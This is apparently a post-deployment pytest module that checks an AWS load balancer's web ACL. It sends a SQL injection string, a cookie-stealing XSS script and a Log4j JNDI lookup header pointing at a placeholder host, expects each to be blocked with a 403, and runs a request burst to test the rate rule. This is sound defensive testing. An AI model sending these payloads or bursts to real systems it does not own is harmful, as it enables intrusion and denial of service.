"""WAF on the wire: HTTPS requests to the ALB, and what its web ACL answers.

Each request goes to the ALB's DNS name for the site `waf-probe.<domain>` (the name is
the TLS server name and the Host header; no listener rule routes it, so an allowed request
gets the listener's default answer, 404 here). The certificate must verify for that name:
on AWS the ACM certificate for `*.<domain>`, publicly trusted; on the emulator the same
certificate, issued by the emulator's CA (AWS_CA_BUNDLE).

On AWS the ALB is internet-facing and admits HTTPS from anywhere; from a machine that
cannot reach it the probes are skipped saying so. On the emulator the DNS name is the ALB
data plane's address (infra/emulator/planes/alb.py), and an ALB that does not answer
there is a failure.

The rate rule is probed only with `--slow` (`infra probe ENV --slow`): a bounded burst
from this machine's address, which the rule then blocks for some minutes. On the emulator
(`infra up` runs it there) the burst comes from a loopback address of its own, so the
probes after it are not blocked, and it ends when its budget is spent: the emulator
counts exactly and at once, where AWS WAF acts within about a minute.
"""

from __future__ import annotations

import http.client
import os
import random
import ssl
import time

import pytest

from infra.emulator.launcher import EMULATED_VARIABLE
from tests.post_apply.conftest import HttpsTo, ca_bundle, reachable

TIMEOUT = 10.0
BROWSER = {"User-Agent": "Mozilla/5.0 (compatible; infra-probe)", "Accept": "text/html"}
BURST_SECONDS = 180.0  # the rate probe stops by itself after this long


@pytest.fixture(scope="module")
def site(cfg) -> str:
    return f"waf-probe.{cfg.components.edge.domain}"


@pytest.fixture(scope="module")
def alb(outputs) -> str:
    """The ALB's DNS name, if this machine can reach its HTTPS listener."""
    address = outputs["alb_dns_name"]
    reachable(
        "ALB",
        address,
        443,
        timeout=TIMEOUT,
        log_hint="alb ",
        unreachable="run `infra probe` from a host the ALB admits (it is internet-facing and admits 443 from "
        "anywhere: check its scheme, security group and this network's egress).",
    )
    return str(address)


def status(alb: str, site: str, target: str, headers: dict[str, str] | None = None) -> int:
    """The HTTP status the ALB answers to GET https://<site><target> (sent to `alb`)."""
    connection = HttpsTo(alb, site, ca=ca_bundle(), timeout=TIMEOUT)
    try:
        connection.request("GET", target, headers={**BROWSER, **(headers or {})})
        response = connection.getresponse()
        response.read()
        return response.status
    except ssl.SSLError as exc:
        pytest.fail(
            f"ALB {alb}: expected a TLS handshake with a certificate valid for {site} "
            f"(trusting {ca_bundle() or 'the system store'}), found: {exc}"
        )
    finally:
        connection.close()


def test_a_plain_request_is_not_blocked(alb, site):
    found = status(alb, site, "/courses?page=2")
    assert found != 403, f"ALB {alb}: expected GET /courses?page=2 not to be blocked, found {found}"


def test_a_sql_injection_in_the_query_string_is_answered_403(alb, site):
    found = status(alb, site, "/courses?id=1%27%20OR%20%271%27%3D%271")
    assert found == 403, (
        f"ALB {alb}: expected ?id=1' OR '1'='1 to be blocked by the web ACL (403), found {found} "
        "(is AWSManagedRulesSQLiRuleSet in the web ACL, blocking, and the web ACL on the ALB?)"
    )


def test_a_cross_site_scripting_payload_is_answered_403(alb, site):
    found = status(alb, site, "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")
    assert found == 403, (
        f"ALB {alb}: expected ?q=<script>alert(document.cookie)</script> to be blocked by the web ACL (403), "
        f"found {found} (is AWSManagedRulesCommonRuleSet in the web ACL, blocking, and the web ACL on the ALB?)"
    )


def test_a_log4j_lookup_in_a_header_is_answered_403(alb, site):
    found = status(alb, site, "/", {"X-Api-Version": "${jndi:ldap://probe.invalid/a}"})
    assert found == 403, (
        f"ALB {alb}: expected a header X-Api-Version: ${{jndi:ldap://...}} to be blocked by the web ACL (403), "
        f"found {found} (is AWSManagedRulesKnownBadInputsRuleSet in the web ACL, blocking, and the web ACL on "
        "the ALB?)"
    )


@pytest.mark.slow
def test_the_rate_rule_blocks_a_burst_from_one_address(alb, site, cfg):
    """Up to 1.5 x the limit plus 100 requests as fast as one connection goes, then one a
    second (AWS WAF acts on a rate within about a minute), until a 403 or BURST_SECONDS."""
    limit = cfg.components.edge.rate_limit_per_5_minutes
    budget, deadline = limit * 3 // 2 + 100, time.monotonic() + BURST_SECONDS
    emulated = bool(os.environ.get(EMULATED_VARIABLE))
    source = f"127.254.{random.randrange(256)}.{random.randrange(1, 255)}" if emulated else None
    sent, last = 0, 0
    connection = HttpsTo(alb, site, ca=ca_bundle(), timeout=TIMEOUT, source=source)
    try:
        while time.monotonic() < deadline and last != 403:
            if sent >= budget:
                if emulated:
                    break
                time.sleep(1.0)
            try:
                connection.request("GET", "/", headers=BROWSER)
                response = connection.getresponse()
                response.read()
                last = response.status
            except (http.client.HTTPException, OSError):
                connection.close()  # the ALB may close a kept-alive connection: a new one
                continue
            sent += 1
    finally:
        connection.close()
    assert last == 403, (
        f"ALB {alb}: expected the rate rule ({limit} per 5 minutes per IP) to block a burst, found {last} after "
        f"{sent} requests in {BURST_SECONDS - max(0.0, deadline - time.monotonic()):.0f} s"
        + (f" from {source}" if source else "")
    )
